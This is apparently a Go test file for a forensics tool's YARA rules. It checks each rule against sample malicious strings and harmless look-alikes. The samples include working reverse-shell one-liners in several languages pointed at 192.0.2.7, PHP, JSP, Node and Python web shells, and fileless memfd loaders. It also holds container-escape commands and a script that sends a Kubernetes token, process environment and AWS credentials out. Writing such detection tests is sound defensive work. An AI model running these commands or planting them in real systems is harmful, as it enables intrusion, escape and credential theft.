package yara

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	libyara "github.com/hillu/go-yara/v4"

	"github.com/sherd-forensics/sherd/internal/testenv"
	"github.com/sherd-forensics/sherd/verdict"
)

// classFile is the beginning of a compiled class, with constants of text as the format has them.
func classFile(constants ...string) string {
	b := []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x40")
	for _, c := range constants {
		b = append(b, 1)
		b = binary.BigEndian.AppendUint16(b, uint16(len(c)))
		b = append(b, c...)
	}
	return string(b)
}

// elfFile is an ELF file of a type, 2 for a program and 3 for a library, that holds texts.
func elfFile(kind byte, texts ...string) string {
	head := make([]byte, 64)
	copy(head, "\x7fELF\x02\x01\x01")
	head[16] = kind
	return string(head) + strings.Join(texts, "\x00") + "\x00"
}

// Each of Sherd's rules fires on what it is for, and not on what looks alike.
var examples = []struct {
	rule    string
	fires   []string
	mustNot []string
}{
	{"packed_upx", []string{elfFile(2, "UPX!", "$Info: This file is packed with the UPX executable packer http://upx.sf.net $", "UPX!")},
		[]string{elfFile(2, "this tool unpacks UPX! files"), "UPX! UPX! $Info: This file is packed with the UPX executable packer"}},
	{"coinminer_xmrig", []string{elfFile(2, "donate.v2.xmrig.com", "donate-level", "huge-pages-jit"), elfFile(2, "donate-level", "cpu-max-threads-hint", "randomx-wrmsr", "rx/arq", "cryptonight")},
		[]string{elfFile(2, "blocked: donate.v2.xmrig.com, cryptonight"), "donate.v2.xmrig.com donate-level huge-pages-jit"}},
	{"coinminer_configuration", []string{`{"cpu":{"huge-pages":true},"donate-level":1,"pools":[{"algo":"rx/0","coin":null,"url":"pool.example.org:3333","user":"x","rig-id":null}]}`},
		[]string{`{"pools":[{"url":"amqp.example.org:5672","keepalive":true}]}`, `{"database":{"pools":5,"url":"db:5432"}}`}},
	{"coinminer_pool_protocol", []string{elfFile(2, "mining.subscribe", "mining.authorize", "mining.submit"), elfFile(2, "stratum+tcp://", "job_id", `"keepalived"`)},
		[]string{"we block stratum+tcp:// by policy", "mining.notify is a method of Stratum"}},
	{"coinminer_start", []string{"#!/bin/sh\n./kworker -o pool.supportxmr.com:443 --donate-level 0 -k\n"},
		[]string{"blocklist:\n  supportxmr.com\n  pool.supportxmr.com:443\n", "server --donate-level-of-giving"}},
	{"implant_sliver", []string{elfFile(2, "github.com/bishopfox/sliver/protobuf/sliverpb", ".sliverpb.Register"), elfFile(2, "sliverpb.X", "BeaconTasks", "PivotPeerEnvelope")},
		[]string{elfFile(2, "a sliver of hope, BeaconTasks"), "github.com/bishopfox/sliver/protobuf/sliverpb .sliverpb.Register"}},
	{"implant_go_frameworks", []string{elfFile(2, "github.com/Ne0nd0g/merlin-agent/core"), elfFile(2, "github.com/someone/geacon_pro/packet/http.go"), elfFile(2, "github.com/NHAS/reverse_ssh/internal/client")},
		[]string{elfFile(2, "github.com/merlin/agent", "poseidon"), elfFile(2, "github.com/golang/geo/cmd/")}},
	{"implant_meterpreter", []string{"core_negotiate_tlv_encryption core_channel_open stdapi_sys_process_execute", "TLV_META_TYPE_RAW PACKET_TYPE_REQUEST core_machine_id"},
		[]string{"TLV_META_TYPE_RAW of another protocol", "core_machine_id"}},
	{"tunnel_go", []string{elfFile(2, "github.com/jpillora/chisel/client"), elfFile(2, "gs-netcat", "GSOCKET_SECRET")},
		[]string{elfFile(2, "github.com/jpillora/backoff"), "see github.com/jpillora/chisel/ for more"}},
	{"bot_irc_flooder", []string{elfFile(2, "NOTICE %s :TSUNAMI <target> <secs>", "NOTICE %s :KILLALL"), elfFile(2, "LOLNOGTFO", "GETLOCALIP")},
		[]string{elfFile(2, "NOTICE %s :Unable to comply."), "LOLNOGTFO GETLOCALIP"}},
	{"rootkit_preload", []string{elfFile(3, "dlsym", "readdir64", "/proc/%s/stat", "/proc/self/fd/%d", "%d (%[^)]s")},
		[]string{elfFile(3, "dlsym", "readdir64", "/proc/self/fd/%d", "LD_PRELOAD"), elfFile(2, "dlsym", "readdir", "/proc/%s/stat", "/proc/self/fd/%d", "%d (%[^)]s")}},
	{"reverse_shell_python", []string{
		`import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")`,
		`s=socket.socket();s.connect(("192.0.2.7",9));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/bash")`,
		"s.connect((host, port))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.getoutput(c)\n    s.send(o.encode())\n",
	}, []string{"sock.connect((host, port))\nwhile True:\n    data = sock.recv(4096)\n    if not data: break\n    handle(data)\n", "os.dup2(log.fileno(), 1)\nsubprocess.run(['ls'])\n"}},
	{"reverse_shell_perl_ruby", []string{
		`perl -e 'use Socket;$i="192.0.2.7";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
		`ruby -rsocket -e 'c=TCPSocket.new("192.0.2.7","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
	}, []string{`connect(S, sockaddr_in($port, $addr)) or die; print S "QUIT\r\n";`, `s = TCPSocket.new("db", 5432); s.puts "x"; s.close`}},
	{"reverse_shell_node", []string{
		`(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,"192.0.2.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();`,
	}, []string{`const net = require("net"); const s = net.connect(5432, "db"); s.on("data", d => parse(d));`, `const p = spawn("sh", ["-c", "ls"]); p.stdout.pipe(process.stdout);`}},
	{"reverse_shell_php", []string{`<?php $sock=fsockopen("192.0.2.7",4242);exec("/bin/sh -i <&3 >&3 2>&3"); ?>`}, []string{`<?php $s = fsockopen("mail", 25); fwrite($s, "HELO"); ?>`}},
	{"reverse_shell_command", []string{
		"bash -i >& /dev/tcp/192.0.2.7/4242 0>&1", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4242 >/tmp/f", "nc -e /bin/sh 192.0.2.7 4242", "socat tcp:192.0.2.7:4242 exec:'bash -li',pty,stderr",
	}, []string{"bash -i script.sh > /dev/null", "nc -z db 5432", "mkfifo /tmp/f; cat < /tmp/f", "timeout 1 bash -c '</dev/tcp/db/5432'"}},
	{"reverse_shell_java", []string{classFile("java/net/Socket", "java/lang/ProcessBuilder", "/bin/sh", "getInputStream", "getOutputStream", "available")},
		[]string{classFile("java/net/Socket", "getInputStream", "getOutputStream", "available"), classFile("java/lang/ProcessBuilder", "/bin/sh", "getInputStream")}},
	{"loader_memfd_script", []string{
		"import ctypes,os\nfd=ctypes.CDLL(None).syscall(319,b'',1)\nos.write(fd,data)\nos.execl('/proc/self/fd/%d'%fd,'x')\n",
		`perl -e 'my $n=""; my $fd = syscall(319, $n, 1); open(F, ">&=".$fd); print F $elf; exec {"/proc/$$/fd/$fd"} "x";'`,
	}, []string{"fd = os.memfd_create('cache')\nos.write(fd, b'x')\n", "for f in os.listdir('/proc/self/fd/'): print(f)\nos.execv(sys.executable, sys.argv)\n"}},
	{"loader_ddexec", []string{"exec 3>/proc/self/mem; read syscall_info < /proc/self/syscall; tail -c +$((addr)) <&3; seek=1"},
		[]string{"with open('/proc/self/maps') as f: print(f.read())", "f = open('/proc/self/mem'); f.seek(x)"}},
	{"webshell_jsp", []string{`<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>`, `<%@page import="javax.crypto.*"%><% class U extends ClassLoader{} request.getReader(); %>`},
		[]string{`<% String name = request.getParameter("name"); out.print(escape(name)); %>`, `Process p = Runtime.getRuntime().exec("ls"); request.getParameter("x")`}},
	{"webshell_php", []string{`<?php @eval($_POST['x']); ?>`, `<?php system(base64_decode($_GET["c"]));`, `<?php $_GET[a]($_GET[b]); ?>`, `<?php eval(gzinflate(base64_decode("x")));`},
		[]string{`<?php echo htmlspecialchars($_GET["q"]); ?>`, `<?php $r = exec("ls " . escapeshellarg($_GET["d"]));`, `system($_POST[x]) is what a web shell does`}},
	{"webshell_node", []string{`app.get('/x', (req, res) => { require('child_process').exec(req.query.c, (e, o) => res.send(o)) })`, `eval(req.body.code)`},
		[]string{`app.get('/x', (req, res) => { db.exec("select 1"); res.send(req.query.c) })`}},
	{"webshell_python", []string{`@app.route('/x')\ndef x(): return os.popen(request.args.get('c')).read()`, `app.add_url_rule('/s','s',lambda: __import__('os').popen(x).read()) or os.popen`},
		[]string{`def x(): q = request.args.get('q'); return subprocess.run(['ls'])`, `app.add_url_rule('/health', 'health', lambda: 'ok')`}},
	{"webshell_java_known", []string{classFile("net/rebeyond/behinder/payload/java/Cmd"), "heap " + classFile("shells/payloads/java/X1")}, []string{"net/rebeyond/behinder/payload", classFile("net/example/behind/Payload")}},
	{"webshell_java_memory", []string{classFile("org/apache/catalina/core/StandardContext", "filterConfigs", "addFilterMapBefore", "java/lang/Runtime", "getParameter")},
		[]string{classFile("org/apache/catalina/core/StandardContext", "filterConfigs", "getHeader"), classFile("java/lang/Runtime", "getParameter")}},
	{"escape_release_agent", []string{"mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_release; echo \"$host/cmd\" > /tmp/c/release_agent; echo $$ > /tmp/c/x/cgroup.procs"},
		[]string{"cat /sys/fs/cgroup/release_agent", "echo 0 > notify_on_release; echo $$ > cgroup.procs"}},
	{"escape_runtime_socket", []string{`curl --unix-socket /var/run/docker.sock -d '{"Image":"a","HostConfig":{"Binds":["/:/host"]}}' http://x/containers/create`, `docker -H unix:///run/docker.sock run -v /:/mnt alpine chroot /mnt`},
		[]string{`curl --unix-socket /var/run/docker.sock http://x/containers/json`, `docker -H unix:///run/docker.sock run -v /data:/data app`}},
	{"escape_core_pattern", []string{"echo '|/proc/%P/root/x' > /proc/sys/kernel/core_pattern; kill -11 $$"}, []string{"cat /proc/sys/kernel/core_pattern", "echo '|/usr/lib/systemd/systemd-coredump %P' > /proc/sys/kernel/core_pattern"}},
	{"escape_runc_exe", []string{"#!/proc/self/exe\n", elfFile(2, "#!/proc/self/exe", "runc", "/proc/%d/cmdline", "/proc/self/fd/%d")}, []string{"#!/bin/sh\nls -l /proc/self/exe\n", elfFile(2, "/proc/self/exe", "runc", "/proc/self/fd/")}},
	{"tool_container_escape", []string{elfFile(2, "github.com/cdk-team/CDK/pkg/tool"), "#!/bin/sh\n# PEASS-ng\necho LinPEAS\n"}, []string{"LinPEAS was seen in the logs", elfFile(2, "github.com/docker/docker")}},
	{"tool_network_scanner", []string{elfFile(2, "github.com/shadow1ng/fscan/Plugins"), elfFile(2, "masscan", "--adapter-port", "--echo-all")}, []string{elfFile(2, "masscan found a port"), "github.com/shadow1ng/fscan"}},
	{"secrets_taken_by_script", []string{"t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); e=$(cat /proc/1/environ); a=$(cat ~/.aws/credentials)\ncurl -s -d \"$t$e$a\" https://192.0.2.7/"},
		[]string{"token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.post(url, headers={'Authorization': token})\n"}},
}

func scanText(t testing.TB, program *libyara.Rules, text string) string {
	t.Helper()
	var m libyara.MatchRules
	sc, err := libyara.NewScanner(program)
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Destroy()
	if err := sc.SetCallback(&m).ScanMem([]byte(text)); err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range m {
		out = append(out, r.Rule)
	}
	return strings.Join(out, " ")
}

func ownProgram(t testing.TB) (*Set, *libyara.Rules) {
	t.Helper()
	s := New()
	if s.wrong != nil {
		t.Fatal(s.wrong)
	}
	program, err := s.program()
	if err != nil {
		t.Fatal(err)
	}
	return s, program
}

func TestOwnRules(t *testing.T) {
	s, program := ownProgram(t)
	var listed []string
	for _, e := range examples {
		listed = append(listed, e.rule)
		for _, text := range e.fires {
			if got := scanText(t, program, text); !slices.Contains(strings.Fields(got), e.rule) {
				t.Errorf("%s does not fire on %.120q; what fires: %q", e.rule, text, got)
			}
		}
		for _, text := range e.mustNot {
			if got := scanText(t, program, text); got != "" {
				t.Errorf("%s fires on %.120q", got, text)
			}
		}
	}
	for i := range s.rules {
		r := &s.rules[i]
		if !slices.Contains(listed, r.name) {
			t.Errorf("%s has no example", r.name)
		}
		if r.Title == r.name || r.Technique == "" || r.rationale == "" || r.FalseAlarms == "" || r.reference == "" || r.severity.Rank() < verdict.Low.Rank() || r.Origin != "" {
			t.Errorf("%s does not say all that a rule must: %+v", r.name, r.facts)
		}
		if !regexp.MustCompile(`^yara-[a-z0-9-]+$`).MatchString(r.ID) {
			t.Errorf("id %q", r.ID)
		}
	}
}

// A rule that can't be true of memory, which has no size and no byte 0, must say so, or it would seem to have looked.
func TestOwnRulesSayWhereTheyLook(t *testing.T) {
	s, _ := ownProgram(t)
	fileOnly := regexp.MustCompile(`filesize|uint\d+(be)?\(\d+\)`)
	for i := range s.rules {
		r := &s.rules[i]
		for _, it := range s.units[r.unit].rules {
			if it.name == r.name && fileOnly.MatchString(it.text) && !r.noMemory {
				t.Errorf("%s: its condition asks for the size or the first bytes, which memory does not have", r.name)
			}
		}
	}
}

// Programs and libraries that images hold are not what the rules look for.
func TestOwnRulesOnHonestFiles(t *testing.T) {
	_, program := ownProgram(t)
	patterns := []string{
		"/usr/bin/python3*", "/usr/bin/node", "/usr/bin/openssl", "/usr/bin/perl", "/usr/bin/bash", "/usr/bin/curl", "/usr/bin/git", "/usr/sbin/runc", "/usr/bin/containerd",
		"/usr/bin/conmon", "/usr/sbin/iptables", "/lib/systemd/systemd", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
		"/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libpython3*.so*", "/usr/lib/x86_64-linux-gnu/libnode.so*", "/usr/lib/jvm/*/lib/server/libjvm.so", "/usr/lib/python3*/*.py",
		"/usr/share/perl/*/*.pm", "/usr/share/nodejs/*/*.js",
	}
	seen, scanned := map[string]bool{}, int64(0)
	for _, p := range patterns {
		found, err := filepath.Glob(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, path := range found {
			real, err := filepath.EvalSymlinks(path)
			if err != nil || seen[real] || len(seen) > 4000 {
				continue
			}
			seen[real] = true
			b, err := os.ReadFile(real)
			if err != nil || len(b) == 0 {
				continue
			}
			scanned += int64(len(b))
			if got := scanText(t, program, string(b)); got != "" {
				t.Errorf("%s: %s", real, got)
			}
		}
	}
	if len(seen) < 3 {
		testenv.Skip(t, "this machine has none of the programs that images hold")
	}
	t.Logf("%d files, %d MiB", len(seen), scanned>>20)
}
